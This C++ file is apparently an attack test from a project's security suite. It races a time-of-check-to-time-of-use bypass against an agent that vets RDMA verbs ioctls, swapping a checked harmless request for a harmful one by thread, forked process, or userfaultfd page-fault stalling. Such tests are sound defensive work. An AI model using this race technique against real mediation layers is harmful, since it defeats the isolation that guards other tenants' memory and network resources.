// SPDX-License-Identifier: Apache-2.0
// The time-of-check race: a REG_MR that the agent lets run becomes another verb before the kernel
// reads it. The change comes from a thread, from a process that shares descriptor and memory, or
// from the handler of a page fault that the agent's own reading has caused.
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstring>
#include <new>
#include <thread>

#include "tests/attack/program/attack.h"
#include "tests/attack/program/tally.h"

namespace qmasq::attack {
namespace {

using Clock = std::chrono::steady_clock;

constexpr std::uint32_t kRegMr = IB_USER_VERBS_CMD_REG_MR;
constexpr std::uint32_t kNoSuchPd = 0xfffffff0;
constexpr std::size_t kPage = 4096;

std::int64_t nanoseconds_since(Clock::time_point start) {
  return std::chrono::duration_cast<std::chrono::nanoseconds>(Clock::now() - start).count();
}

// A command of the kernel's headers, which end in arrays of no length, between other things.
template <typename T>
struct Held {
  alignas(8) std::array<std::byte, sizeof(T)> bytes{};
  T* operator->() { return reinterpret_cast<T*>(bytes.data()); }
  void clear() { bytes.fill(std::byte{0}); }
};

// What caller and changer share; in shared memory, so that they may be processes.
struct Arena {
  alignas(kPage) std::array<std::byte, kPage> held;  // the page whose fault is held back
  Invoke request;                                    // what the ioctl points at
  Invoke harmless;
  Invoke harmful;
  std::atomic<std::uint64_t> call{0};  // odd: under way
  std::atomic<std::uint64_t> changed{0};  // number of the call that was changed last
  std::atomic<std::int64_t> span{0};      // how long a call takes, nanoseconds
  Held<ib_uverbs_reg_mr> reg;
  Held<ib_uverbs_modify_qp> modify;
  Held<ib_uverbs_create_qp> create;
  Held<ib_uverbs_create_ah> address;
  std::array<std::byte, 4096> answer{};
  std::array<std::byte, 64> driver_answer{};
  std::uint64_t entries = 0;
};

class Random {
 public:
  explicit Random(std::uint64_t seed) : state_(seed * 2654435761U + 88172645463325252ULL) {}
  std::uint64_t below(std::uint64_t end) {
    state_ ^= state_ << 13U;
    state_ ^= state_ >> 7U;
    state_ ^= state_ << 17U;
    return end == 0 ? 0 : state_ % end;
  }

 private:
  std::uint64_t state_;
};

class Race {
 public:
  Race(const RaceOptions& options, Tally& tally, Rig& rig, Arena& arena)
      : options_(options), tally_(tally), rig_(rig), arena_(arena) {
    prepare();
  }

  [[nodiscard]] bool over() const {
    return tally_.rounds.load() >= options_.rounds ||
           Clock::now() - start_ > std::chrono::seconds(options_.seconds);
  }

  // One call. True when it came back as the harmful verb, done.
  bool call() {
    std::memcpy(&arena_.request, &arena_.harmless, sizeof arena_.request);
    const std::uint64_t number = arena_.call.load() + 1;
    const auto begun = Clock::now();
    arena_.call.store(number);
    // The harmless verb always fails: its PD is nobody's. So nothing has to be undone.
    const int err = submit(rig_.fd(), &arena_.request);
    arena_.call.store(number + 1);
    ++tally_.calls;
    if (arena_.changed.load() == number) {
      ++tally_.rounds;
    } else {
      // A moving average over calls that nobody disturbed.
      const std::int64_t span = arena_.span.load();
      const std::int64_t took = nanoseconds_since(begun);
      arena_.span.store(span == 0 ? took : span + (took - span) / 8);
    }
    if (err != 0) return false;
    ++tally_.returned;
    return true;
  }

  // Changes requests until `stop`.
  void change(const std::atomic<bool>& stop) {
    Random random(static_cast<std::uint64_t>(::getpid()) * 1000003U +
                  static_cast<std::uint64_t>(Clock::now().time_since_epoch().count()));
    std::uint64_t done = 0;
    while (!stop.load()) {
      const std::uint64_t number = arena_.call.load();
      if ((number & 1U) == 0 || number == done) continue;
      done = number;
      const auto begun = Clock::now();
      const std::int64_t delay = when(random);
      while (arena_.call.load() == number && nanoseconds_since(begun) < delay) {
      }
      if (arena_.call.load() != number) continue;
      arena_.changed.store(number);
      change_now();
    }
  }

  void change_now() { std::memcpy(&arena_.request, &arena_.harmful, sizeof arena_.request); }
  void note_change() { arena_.changed.store(arena_.call.load()); }

  // What the harmful verb was for.
  void use() {
    if (options_.into == "gids") {
      for (std::byte each : arena_.answer) {
        if (each == std::byte{0}) continue;
        ++tally_.used;
        break;
      }
      return;
    }
    if (options_.into == "ud") {
      use_datagrams();
      return;
    }
    if (options_.into != "rtr") return;
    if (to_rts(rig_.qp()) != 0) return;
    ++tally_.used;
    if (write_into(rig_, options_.target)) ++tally_.wrote;
  }

  // Ready for the next harmful call. False when the context is gone.
  bool again() {
    if (options_.into == "rtr" && rig_.new_qp() != 0) return false;
    prepare();
    return true;
  }

 private:
  void prepare() {
    arena_.reg.clear();
    arena_.reg->start = reinterpret_cast<std::uint64_t>(rig_.memory().data());
    arena_.reg->length = kPage;
    arena_.reg->hca_va = arena_.reg->start;
    arena_.reg->pd_handle = kNoSuchPd;
    arena_.reg->access_flags = IBV_ACCESS_LOCAL_WRITE;
    const bool held = options_.how == "fault";
    if (held) std::memcpy(arena_.held.data(), &arena_.reg.bytes, sizeof arena_.reg.bytes);
    const void* reg = held ? arena_.held.data() : arena_.reg.bytes.data();
    void* answer = arena_.answer.data();
    void* driver = arena_.driver_answer.data();
    arena_.answer.fill(std::byte{0});
    arena_.harmless.set(kRegMr, reg, sizeof arena_.reg.bytes, answer, sizeof(ib_uverbs_reg_mr_resp),
                        driver);
    if (options_.into == "gids") {
      Method table(UVERBS_OBJECT_DEVICE, UVERBS_METHOD_QUERY_GID_TABLE);
      table.value(UVERBS_ATTR_QUERY_GID_TABLE_ENTRY_SIZE, sizeof(ib_uverbs_gid_entry))
          .value(UVERBS_ATTR_QUERY_GID_TABLE_FLAGS, 0)
          .out(UVERBS_ATTR_QUERY_GID_TABLE_RESP_ENTRIES, answer, 32 * sizeof(ib_uverbs_gid_entry))
          .out(UVERBS_ATTR_QUERY_GID_TABLE_RESP_NUM_ENTRIES, &arena_.entries, 8);
      arena_.harmful = table.as_invoke();
    } else if (options_.into == "ud") {
      arena_.create.clear();
      arena_.create->pd_handle = rig_.pd()->handle;
      arena_.create->send_cq_handle = rig_.cq()->handle;
      arena_.create->recv_cq_handle = rig_.cq()->handle;
      arena_.create->max_send_wr = 1;
      arena_.create->max_recv_wr = 1;
      arena_.create->max_send_sge = 1;
      arena_.create->max_recv_sge = 1;
      arena_.create->qp_type = IB_UVERBS_QPT_UD;
      arena_.harmful.set(IB_USER_VERBS_CMD_CREATE_QP, &arena_.create.bytes, sizeof arena_.create.bytes, answer,
                         sizeof(ib_uverbs_create_qp_resp), driver);
    } else if (options_.into == "ah") {
      arena_.address.clear();
      arena_.address->pd_handle = rig_.pd()->handle;
      std::memcpy(arena_.address->attr.grh.dgid, options_.target.gid.raw, 16);
      arena_.address->attr.grh.sgid_index = options_.target.gid_index;
      arena_.address->attr.grh.hop_limit = 64;
      arena_.address->attr.is_global = 1;
      arena_.address->attr.port_num = kPort;
      arena_.harmful.set(IB_USER_VERBS_CMD_CREATE_AH, &arena_.address.bytes, sizeof arena_.address.bytes, answer,
                         sizeof(ib_uverbs_create_ah_resp), driver);
    } else {
      const ib_uverbs_modify_qp command = rtr_command(rig_.qp()->handle, options_.target);
      std::memcpy(arena_.modify.bytes.data(), &command, sizeof command);
      arena_.harmful.set(IB_USER_VERBS_CMD_MODIFY_QP, &arena_.modify.bytes, sizeof arena_.modify.bytes, answer,
                         0, driver);
    }
  }

  // Nanoseconds into the call at which the change comes.
  std::int64_t when(Random& random) {
    const auto span = static_cast<std::uint64_t>(std::max<std::int64_t>(arena_.span.load(), 1000));
    if (random.below(100) < static_cast<std::uint64_t>(options_.aim)) {
      return static_cast<std::int64_t>(random.below(span));
    }
    // Mostly too early or too late: those cost no restart.
    const std::uint64_t edge = random.below(span / 8);
    return static_cast<std::int64_t>(random.below(2) == 0 ? edge : span - edge);
  }

  // A UD queue pair that the agent never saw come to be, taken up with the agent's own help.
  void use_datagrams() {
    ib_uverbs_create_qp_resp made{};
    std::memcpy(&made, arena_.answer.data(), sizeof made);
    ib_uverbs_modify_qp step{};
    step.qp_handle = made.qp_handle;
    step.port_num = kPort;
    Invoke request{};
    auto take = [&](std::uint8_t state, std::uint32_t mask) {
      step.qp_state = state;
      step.attr_mask = IBV_QP_STATE | mask;
      request.set(IB_USER_VERBS_CMD_MODIFY_QP, &step, sizeof step, arena_.answer.data(), 0,
                  arena_.driver_answer.data());
      return submit(rig_.fd(), &request) == 0;
    };
    if (take(IBV_QPS_INIT, IBV_QP_PKEY_INDEX | IBV_QP_PORT | IBV_QP_QKEY) && take(IBV_QPS_RTR, 0) &&
        take(IBV_QPS_RTS, IBV_QP_SQ_PSN)) {
      ++tally_.used;
    }
  }

  const RaceOptions& options_;
  Tally& tally_;
  Rig& rig_;
  Arena& arena_;
  const Clock::time_point start_ = Clock::now();
};

void by_thread(Race& race) {
  std::atomic<bool> stop{false};
  std::thread changer([&] { race.change(stop); });
  while (!race.over()) {
    if (!race.call()) continue;
    race.use();
    if (!race.again()) break;
  }
  stop = true;
  changer.join();
}

// The caller is a child; whoever changes the arguments, and takes up what the caller has left, is
// its parent.
void by_process(Race& race) {
  constexpr int kDone = 7;
  for (bool fresh = true; fresh && !race.over(); fresh = race.again()) {
    const pid_t caller = ::fork();
    if (caller < 0) return;
    if (caller == 0) {
      ::prctl(PR_SET_PDEATHSIG, SIGKILL);
      while (!race.over() && !race.call()) {
      }
      ::_exit(kDone);
    }
    std::atomic<bool> stop{false};
    std::thread changer([&] { race.change(stop); });
    int status = 0;
    (void)::waitpid(caller, &status, 0);
    // At once: before anybody has cut what the dead caller has brought about.
    race.use();
    stop = true;
    changer.join();
  }
}

// The page with the arguments of the harmless verb is not there. Whoever reads it first, and that is
// the agent, waits until the handler has put the harmful verb in place.
int by_fault(Race& race, Arena& arena) {
  // Not blocking: poll() takes no other.
  const int faults = static_cast<int>(::syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK));
  if (faults < 0) return errno;
  uffdio_api api{};
  api.api = UFFD_API;
  uffdio_register area{};
  area.range = {reinterpret_cast<std::uint64_t>(arena.held.data()), kPage};
  area.mode = UFFDIO_REGISTER_MODE_MISSING;
  if (::ioctl(faults, UFFDIO_API, &api) != 0 || ::ioctl(faults, UFFDIO_REGISTER, &area) != 0) {
    return errno;
  }
  std::atomic<bool> stop{false};
  alignas(kPage) static std::array<std::byte, kPage> content;
  std::thread handler([&] {
    while (!stop.load()) {
      pollfd ready{faults, POLLIN, 0};
      if (::poll(&ready, 1, 100) <= 0) continue;
      uffd_msg message{};
      if (::read(faults, &message, sizeof message) != sizeof message) continue;
      std::memcpy(content.data(), &arena.reg.bytes, sizeof arena.reg.bytes);
      race.note_change();
      race.change_now();
      uffdio_copy copy{};
      copy.dst = area.range.start;
      copy.src = reinterpret_cast<std::uint64_t>(content.data());
      copy.len = kPage;
      (void)::ioctl(faults, UFFDIO_COPY, &copy);
    }
  });
  while (!race.over()) {
    (void)::madvise(arena.held.data(), kPage, MADV_DONTNEED);
    if (!race.call()) continue;
    race.use();
    if (!race.again()) break;
  }
  stop = true;
  handler.join();
  ::close(faults);
  return 0;
}

}  // namespace

int race(const RaceOptions& options) {
  Tally* tally = open_tally(options.tally);
  if (tally == nullptr) {
    std::printf("{\"error\":\"tally: %s\"}\n", errno_name(errno).c_str());
    return 2;
  }
  Rig rig(options.device);
  if (!rig.error().empty()) {
    std::printf("{\"error\":\"%s\"}\n", rig.error().c_str());
    return 2;
  }
  // Private where a fault is to be handled, since only there userfaultfd takes it for missing after
  // MADV_DONTNEED; shared where there are two processes.
  const int sharing = options.how == "fault" ? MAP_PRIVATE : MAP_SHARED;
  void* memory =
      ::mmap(nullptr, sizeof(Arena), PROT_READ | PROT_WRITE, sharing | MAP_ANONYMOUS, -1, 0);
  if (memory == MAP_FAILED) return 2;
  auto* arena = new (memory) Arena;
  Race race(options, *tally, rig, *arena);
  int err = 0;
  if (options.how == "thread") {
    by_thread(race);
  } else if (options.how == "process") {
    by_process(race);
  } else {
    err = by_fault(race, *arena);
  }
  std::printf("{\"rounds\":%llu,\"error\":\"%s\"}\n",
              static_cast<unsigned long long>(tally->rounds.load()), errno_name(err).c_str());
  return err == 0 ? 0 : 2;
}

}  // namespace qmasq::attack
